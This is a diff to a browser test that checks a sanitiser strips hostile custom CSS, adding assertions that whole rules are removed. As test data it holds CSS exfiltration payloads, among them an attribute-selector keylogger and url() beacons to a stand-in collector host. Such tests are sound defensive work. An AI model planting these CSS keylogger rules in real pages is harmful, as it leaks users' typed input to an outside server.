@@ -403,9 +403,9 @@ test('CSS @import, url(), :host-context and attribute-selector keyloggers load n
       customCSS: `@import url(${COLLECTOR}/import.css);
 @font-face { font-family: leak; src: url(${COLLECTOR}/font.woff2); }
 :host { background-image: url(${COLLECTOR}/host.png); font-family: leak; }
-:host-context(body) { background: url(${COLLECTOR}/context.png); }
-input[value$="a"] { background: url(${COLLECTOR}/key-a); }
-.bf-ui-text[data-tone] { background: url(${COLLECTOR}/attr); }
+:host-context(body) { background: url(${COLLECTOR}/context.png); outline-color: rgb(9, 9, 9); }
+input[value$="a"] { background: url(${COLLECTOR}/key-a); outline-color: rgb(9, 9, 9); }
+.bf-ui-text[data-tone] { background: url(${COLLECTOR}/attr); outline-color: rgb(9, 9, 9); }
 .bf-ui-text { background: url(//127.0.0.1:${COLLECTOR.split(':')[2]}/relative); color: rgb(1, 2, 3); }`,
     },
     { trigger: false },
@@ -422,5 +422,9 @@ input[value$="a"] { background: url(${COLLECTOR}/key-a); }
         .join('\n'),
     );
   expect(adopted).not.toContain('127.0.0.1');
+  // The rules themselves go, not only their url()s: each also sets a harmless colour that no
+  // sheet of ours uses (the trusted base sheet has attribute selectors of its own).
+  expect(adopted).not.toContain('host-context');
+  expect(adopted).not.toContain('rgb(9, 9, 9)');
   await expectContained(page, collector, opened);
 });
